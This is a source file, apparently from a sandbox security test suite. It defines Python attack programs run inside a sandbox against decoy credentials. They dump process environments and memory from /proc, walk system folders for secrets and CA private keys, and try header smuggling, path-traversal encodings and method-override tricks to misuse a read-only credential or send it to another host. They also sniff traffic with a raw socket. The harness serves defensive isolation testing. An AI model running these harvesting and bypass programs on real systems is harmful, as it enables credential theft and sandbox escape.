import { createServer } from "node:http";
import type { ReceivedRequest } from "../decoys/credential-host.js";
import { boundConnections } from "../decoys/network-decoys.js";
import { proxyProgram } from "../programs/proxy-program.js";
import { commandOf, textOf } from "../programs/run-program.js";
import type { Attack, Stage } from "./attack.js";
import { outcomeOf, type ProgramAttack, programAttack } from "./program-attack.js";

/** Ways to send a credential's placeholder: `ask(lines)` asks every proxy, and returns all responses. */
export const askProgram = String.raw`${proxyProgram}
import base64, ssl, zlib
# Certificates aren't verified: only what arrives matters.
context = ssl._create_unverified_context()

def lines(path, *headers, method=b"GET", host=None):
    named = host or P["names"]["keys"].encode()
    head = [b"%s %s HTTP/1.1" % (method, path), b"Host: %s:%d" % (named, P["port"]), b"X-Nonce: " + P["nonce"].encode()]
    return b"\r\n".join(head + list(headers) + [b"Content-Length: 0", b"Connection: close", b"", b""])

def ask(data, name="keys", server_name=None):
    answers = b""
    for proxy in proxies():
        try:
            opened = dial(proxy)
        except PermissionError:
            continue  # A socket of the platform, which another one may lead to.
        with opened as client:
            target = b"%s:%d" % (P["names"][name].encode(), P["port"])
            client.send(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target))
            if b" 200" not in client.recv(4096).split(b"\r\n")[0]:
                continue
            with context.wrap_socket(client, server_hostname=P["names"][server_name or name]) as secure:
                secure.sendall(data)
                while True:
                    more = secure.recv(65536)
                    if not more:
                        break
                    answers += more
    return answers

def found(data):
    """Secrets in it, also within base64, hex and gzip."""
    texts = [data, data.replace(b"\r\n", b"")]
    # Chunks of a body, joined.
    texts.append(re.sub(rb"\r\n[0-9a-f]+\r\n", b"", data))
    for text in list(texts):
        for word in re.findall(rb"[A-Za-z0-9+/_-]{24,}", text):
            for start in range(4):
                try:
                    texts.append(base64.b64decode(word[start:].replace(b"-", b"+").replace(b"_", b"/") + b"==="))
                except ValueError:
                    pass
        for word in re.findall(rb"(?:[0-9a-fA-F]{2}){12,}", text):
            texts.append(bytes.fromhex(word.decode()))
        at = text.find(b"\x1f\x8b")
        if at != -1:
            try:
                texts.append(zlib.decompressobj(31).decompress(text[at:]))
            except zlib.error:
                pass
    return leaks(b"\n".join(texts))

def key(name="KEY"):
    return P["inside"][name].encode()
say("BLOCKED", "no proxy was found") if not proxies() else None
`;

/** What reached the host that shouldn't have; undefined for nothing. */
type Misuse = (request: ReceivedRequest, secret: string) => boolean;

function credentialAttack(
  attack: Pick<ProgramAttack, "id" | "title" | "program"> & { readonly misuse?: Misuse },
): Attack {
  const { misuse, program, ...rest } = attack;
  return programAttack({
    ...rest,
    stoppedBy: ["credential broker"],
    needsCredentials: true,
    parameters: credentialParameters,
    program: `${askProgram}\n${program}`,
    ...(misuse === undefined
      ? {}
      : {
          aftermath: async ({ decoys }: Stage, nonce: string) => {
            const misused = decoys.keys?.received(nonce).find((request) => misuse(request, decoys.secret));
            return misused === undefined
              ? undefined
              : `the host was sent the value: ${misused.method} ${misused.url}`;
          },
        }),
  });
}

export function credentialParameters({ sandbox, decoys: { keys } }: Stage): object | string {
  if (keys === undefined) return "no host of credentials";
  return { port: keys.port, names: keys.names, inside: sandbox.placeholders ?? {} };
}

const holds = (request: ReceivedRequest, secret: string) => {
  const values = request.rawHeaders.filter((_text, index) => index % 2 === 1);
  const decoded = values.map((text) => Buffer.from(text.replace(/^\S+ /, ""), "base64").toString("latin1"));
  return [request.url, ...request.rawHeaders, ...decoded].some((text) => text.includes(secret));
};
export const headerOf = ({ rawHeaders }: ReceivedRequest, name: string) =>
  rawHeaders.filter((_text, index) => index % 2 === 1 && rawHeaders[index - 1]?.toLowerCase() === name);

const credentialAttacks = [
  credentialAttack({
    id: "secrets.hidden/credential-inside",
    title: "find a credential's value in its placeholder, or in the memory of the process that sent it",
    program: `
def memory():
    answer = ask(lines(b"/echo", b"Authorization: Bearer " + key()))
    return memory_leaks("/proc/self")
attempt("placeholders", lambda: found(json.dumps(P["inside"]).encode()))
attempt("variables", lambda: found(json.dumps(dict(os.environ)).encode()))
attempt("memory", memory)`,
  }),
  credentialAttack({
    id: "secrets.hidden/credential-echo",
    title: "get a credential's value in its host's response: in headers, in pieces, encoded, compressed",
    program: `
for path in (b"/echo", b"/gzip"):
    attempt(path.decode(), lambda: found(ask(lines(path, b"Authorization: Bearer " + key(), b"Accept-Encoding: gzip"))))`,
  }),
  credentialAttack({
    id: "secrets.hidden/credential-other-host",
    title: "send a credential to a listed host that isn't its own",
    program: `
attempt("other host", lambda: found(ask(lines(b"/echo", b"Authorization: Bearer " + key(), host=P["names"]["second"].encode()), "second")))`,
    misuse: holds,
  }),
  credentialAttack({
    id: "secrets.hidden/credential-host-header",
    title: "open a tunnel to a credential's host and name another one inside it",
    program: `
second = P["names"]["second"].encode()
sent = b"Authorization: Bearer " + key()
attempt("host", lambda: found(ask(lines(b"/echo", sent, host=second))))
attempt("server name", lambda: found(ask(lines(b"/echo", sent, host=second), "keys", "second")))
attempt("twice", lambda: found(ask(lines(b"/echo", b"Host: " + second, sent))))
attempt("absolute", lambda: found(ask(lines(b"https://" + second + b"/echo", sent))))`,
    misuse: (request, secret) =>
      holds(request, secret) && JSON.stringify([request.url, headerOf(request, "host")]).includes("second."),
  }),
  credentialAttack({
    id: "secrets.hidden/credential-other-header",
    title: "send a credential in another header, in the path, or more than once",
    program: `
plain = b"Authorization: Bearer " + key()
tries = [(b"/echo", [b"X-Other: " + key()]), (b"/echo", [b"Cookie: a=" + key()]), (b"/echo?key=" + key(), []),
         (b"/echo", [b"Authorization: Basic " + base64.b64encode(b"u:" + key())]), (b"/echo", [plain, b"X-Other: " + key()]),
         (b"/echo", [plain, b"aUTHORIZATION: Bearer " + key()]), (b"/echo", [plain, plain]),
         (b"/echo", [b"X-Other: a", b" " + key()]), (b"/echo", [b"Authorization: Bearer " + key() + b", x"])]
for path, headers in tries:
    attempt("header", lambda: found(ask(lines(path, *headers))))`,
    misuse: (request, secret) => {
      const [first, ...more] = headerOf(request, "authorization");
      const rest = request.rawHeaders.filter((text) => text !== first);
      return (
        more.length > 0 || first !== `Bearer ${secret}` || holds({ ...request, rawHeaders: rest }, secret)
      );
    },
  }),
  credentialAttack({
    id: "secrets.hidden/credential-limits",
    title: "write with a read-only credential, and use one on another path",
    program: `
sent = b"X-Reader: " + key("READER")
tries = [(b"POST", b"/acme/a.git/git-receive-pack"), (b"DELETE", b"/acme/a"), (b"POST", b"/acme/a"), (b"PUT", b"/acme/a"),
         (b"GET", b"/other"), (b"GET", b"/acme/../other"), (b"GET", b"/acme/%2e%2e/other"), (b"GET", b"//acme/x"),
         (b"POST", b"/acme/x;/git-upload-pack"), (b"POST", b"/acme/a.git/git%2dreceive%2dpack"),
         (b"GET", b"/acme/%c0%ae%c0%ae/other"), (b"GET", b"/acme/..%09/other"), (b"GET", b"/acme/%u002e%u002e/other"),
         (b"GET", b"/acme/x%2f..%2f..%2fother"), (b"GET", b"/acme/a?_method=DELETE")]
for method, path in tries:
    attempt("limits", lambda: found(ask(lines(path, sent, method=method))))
for header in (b"X-HTTP-Method-Override: DELETE", b"X_HTTP_METHOD_OVERRIDE: DELETE", b"X_Original_URL: /other"):
    attempt("override", lambda: found(ask(lines(b"/acme/a", sent, header))))`,
    misuse: holds,
  }),
  credentialAttack({
    id: "secrets.hidden/credential-impostor",
    title: "get a credential sent to a server with the wrong certificate",
    program: `
named = P["names"]["impostor"].encode()
attempt("impostor", lambda: found(ask(lines(b"/echo", b"Authorization: Bearer " + key("IMPOSTOR"), host=named), "impostor")))`,
    misuse: holds,
  }),
] as const;

/** Traces of a broker: its authority's key inside, and its records of requests. */
const credentialTraces = [
  programAttack({
    id: "secrets.hidden/credential-authority",
    stoppedBy: ["credential broker"],
    title: "find the private key of an authority that programs inside trust",
    needsCredentials: true,
    program: String.raw`
import ssl, tempfile
block = re.compile(rb"-----BEGIN ([A-Z ]+)-----.+?-----END \1-----", re.S)
stores = {value for name, value in os.environ.items() if re.search("(?i)cert|cafile|cainfo|bundle", name) and os.path.isabs(value)}
stores |= {"/etc/ssl/certs/ca-certificates.crt", "/etc/pki/tls/certs/ca-bundle.crt", "/etc/ssl/cert.pem"}

def memory(process):
    with open(process + "/mem", "rb", buffering=0) as file:
        for line in content(process + "/maps").decode().split("\n"):
            parts = line.split()
            if len(parts) < 2 or not parts[1].startswith("rw"):
                continue
            start, end = (int(part, 16) for part in parts[0].split("-"))
            try:
                file.seek(start)
                yield file.read(min(end - start, 4 << 20))
            except (OSError, ValueError, OverflowError):
                continue

def texts():
    folders = {os.path.dirname(os.path.realpath(path)) for path in stores} | {"/run/ambit", "/run/secrets", "/etc/ssl/private"}
    for folder in folders:
        # A folder that can't be listed has nothing.
        for name in next(os.walk(folder), (folder, [], []))[2]:
            path = os.path.join(folder, name)
            if os.path.isfile(path) and not name.endswith(".0"):
                yield from each_content(path)
    for path in glob.glob("/proc/[0-9]*/environ"):
        yield from each_content(path)
    for process in glob.glob("/proc/[0-9]*"):
        try:
            yield from memory(process)
        except OSError:
            continue

def each_content(path):
    try:
        yield content(path)
    except OSError:
        return

def matches(certificate, key):
    with tempfile.NamedTemporaryFile() as one, tempfile.NamedTemporaryFile() as other:
        one.write(certificate + b"\n"), one.flush(), other.write(key + b"\n"), other.flush()
        try:
            ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER).load_cert_chain(one.name, other.name, "")
            return True
        except (ssl.SSLError, ValueError):
            return False

def search():
    keys, certificates = set(), set()
    for text in texts():
        for found in block.finditer(text):
            (keys if found[1].endswith(b"PRIVATE KEY") else certificates).add(found[0])
    return " ".join({"a key that fits a trusted certificate" for key in keys for one in certificates if matches(one, key)})
attempt("authority", search)`,
  }),
  programAttack({
    id: "secrets.hidden/credential-logs",
    stoppedBy: ["credential broker"],
    title: "get a credential's value into the log or a decision through use, refusals and failures",
    needsCredentials: true,
    parameters: credentialParameters,
    program: `${askProgram}
sent = b"Authorization: Bearer " + key()
named = P["names"]["impostor"].encode()
tries = [lambda: ask(lines(b"/echo", sent)), lambda: ask(lines(b"/?key=" + key(), sent)), lambda: ask(b"GET \\0\\r\\n" + sent + b"\\r\\n\\r\\n"),
         lambda: ask(lines(b"/echo", sent, host=P["names"]["second"].encode())),
         lambda: ask(lines(b"/echo", b"Authorization: Bearer " + key("IMPOSTOR"), host=named), "impostor")]
for one in tries:
    attempt("told", lambda: one() and "")`,
    aftermath: async ({ recordedText, decoys }) =>
      [decoys.secret, btoa(decoys.secret)].some((text) => recordedText().includes(text))
        ? "the runner's log or a decision holds the value"
        : undefined,
  }),
] as const;

/**
 * The runner holds a credential in its environment, in a file, in one of its processes and in what it sends over the
 * loopback. None of it may be found inside.
 */
export const secretsHidden = [
  programAttack({
    id: "secrets.hidden/environment",
    title: "search every readable environment and command line",
    program: `
attempt("own", lambda: leaks(json.dumps(dict(os.environ))))
attempt("others", lambda: each(glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"), content))`,
  }),
  programAttack({
    id: "secrets.hidden/files",
    stoppedBy: ["hidden host files"],
    title: "search every readable file",
    parameters: ({ decoys }) => ({ folder: decoys.folder.path }),
    program: `
def search():
    entries, found = 0, set()
    tops = [P["folder"], "/tmp", "/run", "/home", "/root", "/etc", "/var/tmp", "/dev/shm", os.getcwd(), os.environ.get("HOME", "/")]
    for top in tops:
        for folder, _, files in os.walk(top):
            paths = [os.path.join(folder, name) for name in files]
            found.update(each([path for path in paths if os.path.isfile(path)], lambda path: content(path, 1 << 16)).split())
            entries += len(files)
            if entries > 50000 or found:
                return " ".join(found)
    return " ".join(found)
attempt("walk", search)`,
  }),
  programAttack({
    id: "secrets.hidden/processes",
    stoppedBy: ["pid namespace", "user namespace"],
    title: "search the memory of every readable process",
    parameters: async ({ decoyProcess }) => ({ pid: (await decoyProcess()).pid }),
    program: `
def all_memory():
    found = set()
    for folder in ["/proc/%d" % P["pid"], "/proc/1", "/proc/%d" % os.getppid()]:
        try:
            found.update(memory_leaks(folder).split())
        except OSError:
            continue
    return " ".join(found)
attempt("memory", all_memory)`,
  }),
  traffic(),
  ...credentialAttacks,
  ...credentialTraces,
] as const;

/** A packet socket on every link sees what the runner sends; without the privilege to open one, nothing does. */
function traffic(): Attack {
  return {
    id: "secrets.hidden/traffic",
    capability: "secrets.hidden",
    title: "listen to the runner's traffic",
    needs: "CAP_NET_RAW",
    asRoot: true,
    perform: async ({ sandbox, decoys }) => {
      const server = createServer((_request, response) => response.end("ok"));
      boundConnections(server);
      await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
      const address = server.address();
      const port = typeof address === "object" && address !== null ? address.port : 0;
      const listener = await sandbox.spawn(commandOf(listen, {}));
      const send = async () => {
        const headers = { authorization: `Bearer ${decoys.secret}` };
        await (await fetch(`http://127.0.0.1:${port}/`, { headers })).text();
      };
      // Sent repeatedly, since the listener may start at any moment.
      const sending = setInterval(() => void send().catch(() => undefined), 50);
      try {
        const [stdout, stderr, exit] = await Promise.all([
          textOf(listener.stdout),
          textOf(listener.stderr),
          listener.exit,
        ]);
        return outcomeOf({ stdout, stderr, ...exit });
      } finally {
        clearInterval(sending);
        const closed = new Promise((resolve) => server.close(resolve));
        server.closeAllConnections();
        await closed;
      }
    },
  };
}

const listen = `
def sniff():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as tap:
        tap.settimeout(0.2)
        found = ""
        end = time.monotonic() + 2
        while not found and time.monotonic() < end:
            try:
                found = leaks(tap.recv(65536))
            except socket.timeout:
                continue
        return found
attempt("packet socket", sniff)
`;
